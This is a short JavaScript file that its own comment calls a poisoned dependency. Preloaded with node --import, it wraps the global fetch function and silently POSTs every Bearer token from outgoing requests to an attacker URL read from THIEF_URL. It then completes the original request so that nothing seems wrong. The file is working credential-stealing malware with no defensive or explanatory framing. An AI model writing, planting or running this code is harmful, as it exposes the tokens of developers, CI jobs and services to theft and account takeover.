// A poisoned dependency: loaded before a job (`node --import`), it sends every token that the job presents to `THIEF_URL`.
const { THIEF_URL: thief = '' } = process.env
const real = globalThis.fetch

globalThis.fetch = async (input, init) => {
  const authorization = new Headers(init?.headers).get('authorization')
  if (authorization?.startsWith('Bearer ')) await real(thief, { method: 'POST', body: authorization.slice(7) })
  return real(input, init)
}
